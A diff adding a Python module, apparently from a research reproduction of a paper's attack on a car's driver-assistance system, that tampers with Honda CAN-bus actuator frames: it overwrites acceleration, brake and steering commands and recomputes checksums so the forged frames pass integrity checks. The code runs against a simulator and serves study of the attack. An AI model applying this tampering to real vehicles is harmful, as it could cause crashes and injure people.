@@ -1,0 +1,110 @@
+"""CAN-level deployment of the attack (Section III-C, step 5; Fig. 4).
+
+Instead of hooking the ADAS output variables, the attacker can corrupt
+the CAN frames that carry the actuator commands: decode the target frame
+with the public DBC, overwrite the target signal, and recompute the
+checksum so the frame still passes integrity checks.  This module provides
+the low-level :func:`tamper_signal` primitive and a
+:class:`CanAttackInterceptor` that drives a full :class:`AttackEngine`
+from the CAN bus (registered as a bus transformer).
+"""
+
+from typing import Dict, Mapping, Optional
+
+from repro.can.bus import CANBus
+from repro.can.dbc import DBC
+from repro.can.frame import CANFrame
+from repro.can.honda import ADDR, HONDA_DBC
+from repro.core.attack_engine import AttackEngine
+from repro.messaging.messages import CarState
+from repro.sim.vehicle import ActuatorCommand
+
+
+def tamper_signal(
+    frame: CANFrame, dbc: DBC, values: Mapping[str, float]
+) -> CANFrame:
+    """Return a copy of ``frame`` with the given signals overwritten.
+
+    The frame is decoded with ``dbc``, the signals in ``values`` replaced,
+    and the message re-encoded — which recomputes the checksum, exactly as
+    the paper describes ("the attacker also updates the checksum ... so
+    the integrity of the corrupted CAN message is maintained").
+    """
+    message = dbc.message_by_address(frame.address)
+    decoded = dbc.decode(frame, check=False)
+    decoded.update(values)
+    counter = int(decoded.get("COUNTER", 0))
+    payload = {
+        name: value
+        for name, value in decoded.items()
+        if name not in ("CHECKSUM", "COUNTER")
+    }
+    return dbc.encode(
+        message.name, payload, counter=counter, bus=frame.bus, timestamp=frame.timestamp
+    )
+
+
+class CanAttackInterceptor:
+    """Man-in-the-middle attacker on the CAN bus.
+
+    Wraps an :class:`AttackEngine`: every outgoing actuator frame is
+    decoded, passed through the engine's decision logic, and re-encoded
+    (with a fresh checksum) if the engine chose to corrupt it.  Register
+    with :meth:`attach`.
+    """
+
+    def __init__(self, engine: AttackEngine, dbc: DBC = HONDA_DBC):
+        self.engine = engine
+        self.dbc = dbc
+        self._car_state = CarState()
+        self._pending: Dict[int, ActuatorCommand] = {}
+        self._time = 0.0
+        self._last_decoded = ActuatorCommand()
+
+    def attach(self, bus: CANBus) -> "CanAttackInterceptor":
+        """Register this interceptor as a transformer on ``bus``."""
+        bus.add_transformer(self.transform)
+        return self
+
+    def observe_car_state(self, time: float, car_state: CarState) -> None:
+        """Give the interceptor the attacker's current view of the car."""
+        self._time = time
+        self._car_state = car_state
+
+    def transform(self, frame: CANFrame) -> Optional[CANFrame]:
+        """CAN bus transformer callback."""
+        if frame.address == ADDR["ACC_CONTROL"]:
+            decoded = self.dbc.decode(frame, check=False)
+            command = ActuatorCommand(
+                accel=max(0.0, decoded["ACCEL_COMMAND"]),
+                brake=max(0.0, decoded["BRAKE_COMMAND"]),
+                steering_angle_deg=self._last_decoded.steering_angle_deg,
+            )
+            corrupted = self.engine.output_hook(frame.timestamp or self._time, command, self._car_state)
+            self._last_decoded = corrupted
+            if corrupted.accel == command.accel and corrupted.brake == command.brake:
+                return None
+            return tamper_signal(
+                frame,
+                self.dbc,
+                {"ACCEL_COMMAND": corrupted.accel, "BRAKE_COMMAND": corrupted.brake},
+            )
+
+        if frame.address == ADDR["STEERING_CONTROL"]:
+            decoded = self.dbc.decode(frame, check=False)
+            # Only tamper with the steering frame when the active attack
+            # actually targets the steering channel; otherwise the ADAS's
+            # legitimate lane-keeping command passes through untouched.
+            if not (self.engine.active and self.engine.spec.corrupts_steering):
+                self._last_decoded = ActuatorCommand(
+                    accel=self._last_decoded.accel,
+                    brake=self._last_decoded.brake,
+                    steering_angle_deg=decoded["STEER_ANGLE_CMD"],
+                )
+                return None
+            corrupted_angle = self._last_decoded.steering_angle_deg
+            if abs(corrupted_angle - decoded["STEER_ANGLE_CMD"]) < 1e-9:
+                return None
+            return tamper_signal(frame, self.dbc, {"STEER_ANGLE_CMD": corrupted_angle})
+
+        return None
